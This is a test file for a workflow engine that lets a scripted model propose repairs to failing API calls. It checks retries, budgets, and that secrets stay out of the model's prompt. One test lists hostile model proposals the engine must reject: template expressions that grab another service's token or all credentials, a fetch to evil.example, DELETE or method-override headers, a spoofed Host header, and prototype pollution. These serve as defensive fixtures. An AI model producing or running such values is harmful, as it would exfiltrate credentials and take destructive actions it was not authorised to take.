/** Runs that repair themselves with a model, where the rules find nothing: without documentation they cannot know what is missing. */
import { expect, test } from 'vitest';
import { openHouse, type TestHouse } from '../../harness/house.ts';
import { pick } from '../../harness/json.ts';
import { type Upstream, upstream } from '../../harness/upstream.ts';
import { type Scripted, scripted, type Turn } from '../../support/llm/scripted.ts';

const secret = 'straw-and-hay-and-straw';

/** Wants to be told the house, and says so in words that the rules do not read. */
const picky = () =>
  upstream(({ url, headers, method, body }) => {
    if (headers['x-coop-key'] !== secret) return { status: 401, body: {} };
    const said = new URL(url, 'http://coop').searchParams.get('house') ?? (body === '' ? null : JSON.parse(body).house);
    if (said !== '4' && said !== 4) return { status: 400, body: { why: `whose nests? ${headers['x-coop-key']}` } };
    return { status: method === 'GET' ? 200 : 201, body: { nests: [{ q: 'Berta', z: 3 }] } };
  });

interface Ground {
  readonly service: Upstream;
  readonly model: Scripted;
  readonly house: TestHouse;
  run(over?: object, options?: object): Promise<Readonly<Record<string, unknown>>>;
}

async function ground(turns: readonly [Turn, ...Turn[]], settings: object = {}): Promise<Ground> {
  const service = await picky();
  const model = await scripted('openai-compatible', ...turns);
  const house = await openHouse({ llmUrl: model.url, llmModel: 'hen-7b', ...settings });
  const input = { id: 'coop', urlHost: service.url, credentials: { key: secret } };
  await house.done('integration/upsert', { input });
  const apiConfig = { urlPath: '/nests', headers: { 'X-Coop-Key': '<<coop_key>>' }, instruction: 'the nests' };
  return {
    service,
    model,
    house,
    run(over = {}, options = {}) {
      const { steps = {}, ...rest } = { steps: {}, ...over };
      const step = { id: 'nests', integrationId: 'coop', apiConfig: { ...apiConfig, ...steps } };
      const workflow = { id: 'w', steps: [step], finalTransform: 'nests.data', ...rest };
      const payload = { barn: 4, other_key: 'k-of-another' };
      const credentials = { other_service_token: 'token-of-another-service' };
      return house.done('workflow/execute', {
        workflow,
        payload,
        credentials,
        options: { selfHealing: 'ENABLED', retryDelay: 1, ...options },
      });
    },
  };
}

const says = (proposal: unknown): Turn => ({ say: JSON.stringify(proposal) });
const good = says({ method: 'GET', path: '/nests', queryParams: { house: '<<barn>>' } });
const wrong = says({ method: 'GET', path: '/nests', queryParams: { coop: '<<barn>>' } });
const engine = 'openai-compatible/hen-7b';

test('takes a repair that the model proposed, was proven and worked', async () => {
  const { run, model, service } = await ground([good]);

  const done = await run();

  expect(done).toMatchObject({
    success: true,
    data: { nests: [{ q: 'Berta', z: 3 }] },
    config: { healing: { repairs: [{ engine, changed: ['queryParams'], outcome: 'worked' }] } },
  });
  expect(service.seen.at(-1)).toMatchObject({ url: '/nests?house=4', headers: { 'x-coop-key': secret } });
  expect(JSON.stringify(model.asked)).toContain('whose nests?');
  expect(JSON.stringify(model.asked)).not.toMatch(/straw-and-hay|token-of-another|k-of-another/);
  expect(JSON.stringify(done)).not.toMatch(/straw-and-hay/);
});

test('tells the model how its repair failed, and takes the next one', async () => {
  const { run, model } = await ground([wrong, good]);

  const done = await run();

  expect(pick(done, 'stepResults', 0, 'healing')).toMatchObject([{ outcome: 'failed' }, { outcome: 'worked' }]);
  expect(model.asked).toHaveLength(2);
});

test('fails as without a model when no repair works, within the budget of one call', async () => {
  const { run, model, service } = await ground([wrong]);

  const done = await run({}, { retries: 10 });

  expect(done).toMatchObject({ success: false, error: expect.stringContaining('answered 400') });
  expect(pick(done, 'config', 'healing')).toBeUndefined();
  expect(model.seen.length).toBeLessThanOrEqual(4);
  expect(service.seen.length).toBe(2);
});

test.each<[string, Turn, string]>([
  ['garbage', { reply: { body: '{{{' } }, 'LLM_BAD_ANSWER'],
  ['a busy provider', { reply: { status: 429, headers: { 'retry-after': '9000' } } }, 'LLM_RATE_LIMITED'],
  ['no answer in time', { reply: { hang: true } }, 'LLM_TIMEOUT'],
  ['no JSON', { say: 'I would rather not.' }, 'was not the JSON that was asked for'],
])('fails as without a model after %s', async (_what, turn, told) => {
  const { run } = await ground([turn], { llmTimeoutMs: told === 'LLM_TIMEOUT' ? 200 : 10_000 });

  const done = await run();

  expect(done).toMatchObject({ success: false, error: expect.stringContaining('answered 400') });
  expect(pick(done, 'stepResults', 0, 'notes', 0)).toContain(told);
});

test('asks nothing that the budget does not pay', async () => {
  const { run, model } = await ground([good], { llmCallTokens: 100 });

  const done = await run();

  expect(done.success).toBe(false);
  expect(pick(done, 'stepResults', 0, 'notes', 0)).toContain('LLM_BUDGET_SPENT');
  expect(model.seen).toEqual([]);
});

test.each<[string, object]>([
  ['the secret of another service', { queryParams: { house: '<<other_service_token>>' } }],
  ['all secrets', { queryParams: { house: '<<$string(credentials)>>' } }],
  ['everything', { queryParams: { house: '<<$string($)>>' } }],
  ['code', { queryParams: { house: '<<(s) => fetch("http://evil.example")>>' } }],
  ['another method', { method: 'DELETE' }],
  [
    'another method in disguise',
    { headers: { 'X-HTTP-Method-Override': 'DELETE' }, queryParams: { house: '<<barn>>' } },
  ],
  ['another host in disguise', { headers: { host: '<<barn>>' }, queryParams: { house: '<<barn>>' } }],
  ['a value that is made up', { queryParams: { house: 'villa' } }],
  ['members of the prototype', { __proto__: { polluted: true }, constructor: { prototype: { polluted: true } } }],
])('sends nothing for a hostile proposal: %s', async (_what, over) => {
  const { run, service } = await ground([says({ method: 'GET', path: '/nests', ...over })]);

  const done = await run();

  expect(done.success).toBe(false);
  expect(service.seen).toHaveLength(1);
  expect(Object.hasOwn(Object.prototype, 'polluted')).toBe(false);
});

test('goes to no other host, whatever the proposal says', async () => {
  const evil = await upstream(() => ({ body: {} }));
  const { run, service } = await ground([
    says({ method: 'GET', path: `${evil.url}/nests`, urlHost: evil.url, queryParams: { house: '<<barn>>' } }),
  ]);

  await run();

  expect(evil.seen).toEqual([]);
  expect(service.seen.every(({ url }) => url.startsWith('/'))).toBe(true);
});

test('sends a refused POST again with what the model proposed, and no other one', async () => {
  const post = says({ method: 'POST', path: '/nests', body: '<<{"house": barn}>>' });
  const { run, service } = await ground([post]);

  const done = await run({ steps: { method: 'POST', body: '{"house": null}' } });

  expect(done.success).toBe(true);
  expect(service.seen.map(({ body }) => JSON.parse(body))).toEqual([{ house: null }, { house: 4 }]);
});

test('repairs a transform with the model', async () => {
  const responseSchema = {
    type: 'array',
    items: {
      type: 'object',
      properties: { hen: { type: 'string' }, clutchSize: { type: 'integer' } },
      required: ['hen', 'clutchSize'],
    },
  };
  const transformCode = '[nests.data.nests.{"hen": q, "clutchSize": z}]';
  const { run } = await ground([says({ transformCode })]);

  const done = await run({ steps: { queryParams: { house: '<<barn>>' } }, responseSchema });

  expect(done).toMatchObject({
    success: true,
    data: [{ hen: 'Berta', clutchSize: 3 }],
    config: { finalTransform: transformCode, healing: { repairs: [{ engine, field: 'finalTransform' }] } },
  });
});

test('repairs nothing, and asks nobody, unless it was told to', async () => {
  const { run, model } = await ground([good]);

  expect(await run({}, { selfHealing: null })).toMatchObject({ success: false });
  expect(model.seen).toEqual([]);
});
